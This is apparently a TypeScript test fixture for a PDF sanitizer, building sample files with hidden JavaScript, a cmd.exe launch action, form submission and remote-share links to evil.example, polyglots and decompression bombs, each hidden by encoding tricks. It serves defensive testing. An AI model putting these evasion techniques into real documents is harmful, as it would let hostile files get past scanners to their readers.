import { deflateSync } from 'node:zlib'
import { aPdf, aPdfStream, packed } from '../../../src/testing/a-pdf.ts'

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const annotation = (inside: string) => aPdf({ page: `/Annots [<< ${inside} >>]` })
const object = (...objects: readonly string[]) => aPdf({ objects })

/** An object stream with a PNG predictor: its row marks are between the parts of the script. */
const predicted = (() => {
  const uncompressed = Buffer.from(`20 0 ${script}`, 'latin1')
  const columns = 8
  const rows: Buffer[] = []
  for (let at = 0; at < uncompressed.length; at += columns)
    rows.push(
      Buffer.from([0]),
      Buffer.concat([uncompressed.subarray(at, at + columns), Buffer.alloc(columns)]).subarray(0, columns),
    )
  return aPdfStream(
    `/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns ${columns} >>`,
    deflateSync(Buffer.concat(rows)),
  )
})()
const hexed = (() => {
  const inner = deflateSync(Buffer.from(`20 0 ${script}`, 'latin1')).toString('hex')
  return aPdfStream('/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]', `${inner}>`)
})()

const documents: Readonly<Record<string, Buffer>> = {
  'a script on opening': aPdf({ catalog: `/OpenAction ${script}` }),
  'a script in a stream of its own': object('<< /S /JavaScript /JS 6 0 R >>', aPdfStream('', 'app.alert(1)')),
  'actions of a page': aPdf({ page: `/AA << /O ${script} >>` }),
  'actions of the document': aPdf({ catalog: `/AA << /WC ${script} >>` }),
  'a script behind a key stroke': object(`<< /FT /Tx /T (a) /Subtype /Widget /AA << /K ${script} >> >>`),
  'a script in the outline': object(`<< /Title (Go) /A ${script} >>`),
  'a script in the name tree': aPdf({
    catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>',
    objects: [script],
  }),
  'a script after a harmless step': aPdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>` }),
  'a script with escaped names': object('<< /#53 /J#61va#53cript /#4a#53 (x) >>'),
  'a script in hexadecimal letters': object('<</S/JavaScript/JS<6170702e616c657274>>>'),
  'a script in an object stream': object(packed(['<< >>', script])),
  'a script in an object stream of an escaped type': object(packed([script], '/Type /Obj#53tm')),
  'a script in an object stream under two codings': object(hexed),
  'a script in an object stream under a predictor': object(predicted),
  'a script in a later version of the file': Buffer.concat([
    aPdf(),
    Buffer.from(
      `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    ),
  ]),
  'a script in an earlier version of the file': Buffer.concat([
    aPdf({ catalog: `/OpenAction ${script}` }),
    Buffer.from('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
  ]),
  'an address that is a script': annotation('/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>'),
  'an address that is a script, in hexadecimal letters': annotation(
    `/Subtype /Link /A << /S /URI /URI <${Buffer.from('javascript:alert(1)').toString('hex')}> >>`,
  ),
  'a program to start': annotation('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>'),
  'a program to start, its name escaped': annotation('/Subtype /Link /A << /S /L#61unch /Win << /F (cmd.exe) >> >>'),
  'a way to another file': annotation(
    '/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>',
  ),
  'a way to an embedded file': annotation('/Subtype /Link /A << /S /GoToE /T << /R /C /N (a.pdf) >> >>'),
  'a visit to a page on opening': aPdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
  'a form that sends itself': object('<< /S /SubmitForm /F (https://evil.example) >>'),
  'a form that fills itself': object('<< /S /ImportData /F (a.fdf) >>'),
  'a form program': aPdf({ catalog: '/AcroForm << /XFA [(config) 5 0 R] >>', objects: [aPdfStream('', '<xdp/>')] }),
  'an embedded file': object('<< /Type /Filespec /EF << /F 6 0 R >> >>', aPdfStream('/Type /EmbeddedFile', 'MZ')),
  'embedded files in the name tree': aPdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
  'a pinned file': annotation('/Subtype /FileAttachment /FS 5 0 R'),
  'a collection of files': aPdf({ catalog: '/Collection << /View /T >>' }),
  'rich media': annotation('/Subtype /RichMedia /RichMediaContent << >>'),
  'a screen with a rendition': annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>'),
  'a film': annotation('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a sound': annotation('/Subtype /Sound /Sound 5 0 R'),
  'a solid body': annotation('/Subtype /3D /3DD 5 0 R'),
  'an encrypted document': aPdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] }),
  'encryption said in a table stream': object(
    aPdfStream('/Type /XRef /W [1 2 1] /Size 1 /Root 1 0 R /Encrypt 6 0 R', ''),
  ),
  'a web page before the document': aPdf({ before: '<html><script>alert(1)</script>' }),
  'an archive behind the document': aPdf({ after: 'PK\u0003\u0004\u0014\0' }),
  'half a document': aPdf().subarray(0, 320),
  'a document without a page': Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n'),
  'brackets without end': object('['.repeat(100_000)),
  'streams that unfold into many megabytes': object(
    ...Array.from({ length: 40 }, () => packed([`(${'x'.repeat(4_000_000)})`])),
  ),
  'a web page by the name of a document': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'a drawing program by the name of a document': Buffer.from('%!PS-Adobe-3.0\n(%PDF-1.4) print\n%%EOF\n'),
}

/** Files that are incomplete documents, or hide content. */
const refused = [
  'a form program',
  'an encrypted document',
  'a web page before the document',
  'half a document',
  'a document without a page',
  'a web page by the name of a document',
  'a drawing program by the name of a document',
]

const handed = (isRefused: boolean) =>
  Object.fromEntries(
    Object.entries(documents)
      .filter(([what]) => refused.includes(what) === isRefused)
      .map(([what, bytes]) => [what, { name: 'document.pdf', bytes }]),
  )

/** Files that are not documents. */
export const refusedDocuments = handed(true)
/** Documents with active or hidden content: only their pages are stored. */
export const disarmedDocuments = handed(false)
